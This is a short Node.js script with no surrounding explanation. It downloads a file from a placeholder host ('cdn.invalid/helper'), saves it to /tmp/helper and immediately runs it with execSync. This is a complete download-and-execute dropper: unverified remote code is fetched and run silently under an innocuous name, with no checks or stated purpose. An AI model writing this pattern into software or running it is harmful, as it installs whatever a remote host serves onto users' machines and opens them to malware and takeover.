const { execSync } = require("child_process");
const https = require("https");
const fs = require("fs");

https.get("https://cdn.invalid/helper", (answer) => {
  answer.pipe(fs.createWriteStream("/tmp/helper")).on("finish", () => execSync("/tmp/helper"));
});
